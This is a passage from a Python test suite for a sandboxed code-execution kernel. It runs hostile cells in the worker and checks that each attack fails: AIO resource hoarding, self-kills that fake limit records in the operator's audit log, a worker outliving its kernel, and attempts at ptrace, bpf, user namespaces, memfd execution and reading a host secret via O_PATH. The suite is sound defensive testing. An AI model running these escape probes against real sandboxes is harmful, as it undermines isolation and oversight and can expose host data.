        libc.syscall(ctypes.c_long(pyseccomp.resolve_syscall(pyseccomp.Arch.NATIVE, "io_destroy")), ctx)
    return err


AIO_HOARD = r"""
budget = %d   # aio-max-nr - aio-nr, read by the test (the worker cannot read /proc/sys)
aio_ctx = ctypes.c_ulong(0)
got = 0
for n in (budget, budget // 2, budget // 4):
    try:
        sc("io_setup", n, ctypes.byref(aio_ctx))
        got = n
        break
    except OSError:
        continue
got
"""


def _aio_free() -> int:
    with open("/proc/sys/fs/aio-max-nr") as fh, open("/proc/sys/fs/aio-nr") as used:
        return int(fh.read()) - int(used.read())


def test_b2_10_the_hosts_aio_budget_cannot_be_taken(fresh):
    r = Run(fresh, AIO_HOARD % _aio_free())
    try:
        err = _host_io_setup()
    finally:
        Run(fresh, "if got: sc('io_destroy', aio_ctx)")
    assert not (r.ok and int(r.text() or 0)) and err == 0, (f"the worker reserved {r.text()} AIO events; another "
                                                          f"process's io_setup(1) failed with errno {err}")


# -- B2-11: a worker that ends itself is reported, and audited as the kernel's own record, as a limit -----
# _death() reads the worker's way of ending as evidence: -SIGXCPU is "it used up its CPU time limit",
# status 86 (EXIT_OUT_OF_MEMORY) is "ran out of memory in its own code", a SIGKILL the host did not send
# is "most likely out of memory", status 1 after a last stderr line "MemoryError" is memory too. Every one
# of these is in the worker's hands (kill(getpid(), SIGXCPU) is allowed: own pid; os._exit(86); stderr).
# The kernel then tells the user a limit ended the cell and writes to the operator's audit log a `limit`
# record with by: "kernel", worker_claim: false, i.e. as a fact it established itself. The cells below
# use no CPU and no memory. (The host could check: its own measure of the worker's CPU time against the
# RLIMIT_CPU it set, the peak RSS it sampled.)

SELF_END = ("import os, signal\nsignal.signal(signal.SIGXCPU, signal.SIG_DFL)\nos.kill(os.getpid(), signal.SIGXCPU)",
            "import os\nos._exit(86)")


def test_b2_11_a_limit_is_reported_only_when_one_was_hit(tmp_path):
    from kernel_helpers import start_client

    log = tmp_path / "audit.log"
    workdir = tmp_path / "work"
    workdir.mkdir()
    c = start_client(options=["--SandboxKernel.isolation=kernel", f"--SandboxKernel.audit_log={log}",
                              "--SandboxKernel.isolation_options={'engine': 'isolation_support:RogueEngine', "
                              f"'extra_sys_path': [{TESTS_DIR!r}], 'spare': False}}"], cwd=str(workdir))
    try:
        told = [" ".join(o.get("evalue", "") for o in c.run(code, timeout=60)["outputs"] if o["type"] == "error")
                for code in SELF_END]
        assert c.run("1 + 1")["status"] == "ok"
    finally:
        c.shutdown()
    with open(log) as fh:
        records = [json.loads(line) for line in fh]
    attested = [(r.get("target"), r.get("message", "")[:80]) for r in records
                if r["event"] == "limit" and r.get("by") == "kernel" and r.get("target") in ("cpu", "memory")]
    assert not attested, f"the kernel attests limits no cell hit: {attested}; the user was told: {told}"


def test_b2_11_a_worker_that_kills_itself_is_told_as_its_own_account(fresh):
    """The backend's side of B2-11: an own SIGKILL the host did not send and whose memory it never saw
    is reported as the worker's account (worker_claim), never as the kernel's finding."""
    r = Run(fresh, "os.kill(os.getpid(), signal.SIGKILL)")
    worker = r.done["worker"]
    assert worker["reason"] == "memory" and worker["worker_claim"] is True, worker
    assert "worker's own account" in worker["message"], worker["message"]


# -- held: the worker dies with its kernel even when its main thread (which armed the signal) is gone ----

OUTLIVE_CELL = r"""
import threading
def beat():
    while True:
        time.sleep(0.1)
threading.Thread(target=beat, daemon=True).start()
time.sleep(0.3)
libc.syscall(60, 0)   # SYS_exit: only the worker's main thread ends, its other threads go on
"""

OUTLIVE_HOST = r"""
import sys, threading, time
sys.path.insert(0, %r)
from isolation_support import Run, breach_worker, rogue_policy
b = breach_worker("kernel", rogue_policy(limits={"memory_mb": 512, "timeout": 10.0}), sys.argv[1],
                  landlock_abi=%r)
threading.Thread(target=lambda: Run(b, %r), daemon=True).start()
print(b.status()["worker"]["pid"], flush=True)
time.sleep(600)
"""


def test_held_a_worker_whose_main_thread_exited_still_dies_with_its_kernel(tmp_path):
    import subprocess

    p = subprocess.Popen([sys.executable, "-c", OUTLIVE_HOST % (TESTS_DIR, HOST_ABI or None, OUTLIVE_CELL), str(tmp_path)],
                         stdout=subprocess.PIPE, text=True)
    try:
        pid = int(p.stdout.readline())
        for _ in range(100):   # the main thread becomes a zombie, the other threads run on
            with open(f"/proc/{pid}/stat") as fh:
                if fh.read().rsplit(")", 1)[1].split()[0] == "Z":
                    break
            time.sleep(0.05)
        assert len(os.listdir(f"/proc/{pid}/task")) > 1
    finally:
        p.kill()
        p.wait()
    for _ in range(100):
        if not os.path.exists(f"/proc/{pid}"):
            break
        time.sleep(0.05)
    assert not os.path.exists(f"/proc/{pid}"), "the worker outlived its kernel"


# -- held: the surfaces the deny list takes away --------------------------------------------------------

HELD_CALLS = r"""
ppid = os.getppid()
results = {}
def tryit(name, *args):
    try:
        results[name] = sc(name, *args)
    except OSError as exc:
        results[name] = errno.errorcode.get(exc.errno, exc.errno)
params = ctypes.create_string_buffer(120)
tryit("io_uring_setup", 8, params)
tryit("userfaultfd", 0)
tryit("keyctl", 0, -3, 0)          # KEYCTL_GET_KEYRING_ID of the user keyring
tryit("add_key", ctypes.c_char_p(b"user"), ctypes.c_char_p(b"k"), ctypes.c_char_p(b"v"), 1, -4)
tryit("perf_event_open", ctypes.create_string_buffer(128), ppid, -1, -1, 0)
tryit("bpf", 0, ctypes.create_string_buffer(128), 128)
tryit("ptrace", 16, ppid, 0, 0)    # PTRACE_ATTACH
tryit("pidfd_open", ppid, 0)
tryit("kcmp", ppid, os.getpid(), 0, 0, 0)
iov = (ctypes.c_long * 2)(ctypes.addressof(ctypes.create_string_buffer(8)), 8)
tryit("process_vm_readv", ppid, iov, 1, iov, 1, 0)
tryit("unshare", 0x10000000)       # CLONE_NEWUSER
tryit("setns", 0, 0)
tryit("mount", ctypes.c_char_p(b"none"), ctypes.c_char_p(b"."), ctypes.c_char_p(b"tmpfs"), 0, 0)
tryit("kill", ppid, 0)
tryit("setpriority", 1, 0, 10)     # PRIO_PGRP
tryit("prctl", 1, 0, 0, 0, 0)      # PR_SET_PDEATHSIG 0
try:                               # PR_SCHED_CORE, SHARE_TO the kernel (refused since review 2)
    results["prctl core"] = sc("prctl", 62, 2, ppid, 0, 0)
except OSError as exc:
    results["prctl core"] = errno.errorcode.get(exc.errno, exc.errno)
tryit("memfd_create", ctypes.c_char_p(b"x"), 0)   # refused since B2-2; execveat of any fd is tried then
fd = results["memfd_create"] if type(results["memfd_create"]) is int else os.open("/dev/null", os.O_RDONLY)
tryit("execveat", fd, ctypes.c_char_p(b""), 0, 0, 0x1000)
results
"""


def test_held_the_kernels_most_dangerous_surfaces_are_refused(worker):
    r = Run(worker, HELD_CALLS)
    assert r.ok, r.error
    got = eval(r.text())  # noqa: S307 - a dict of names and errno names, repr'd by the test's own cell
    allowed = {k: v for k, v in got.items() if v not in ("EPERM", "ENOSYS", "EACCES")}
    assert not allowed, allowed


OPATH = r"""
fd = os.open(%r, os.O_PATH)
try:
    os.fchmod(fd, 0o777)
except OSError as exc:
    first = exc.errno
open(f"/proc/self/fd/{fd}").read()
"""


def test_held_an_o_path_descriptor_outside_opens_nothing(worker, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("OUTSIDE-SECRET")
    os.chmod(secret, 0o600)
    r = Run(worker, OPATH % str(secret))
    assert not r.ok and "OUTSIDE-SECRET" not in str(r.events)
    assert oct(os.stat(secret).st_mode & 0o777) == "0o600"
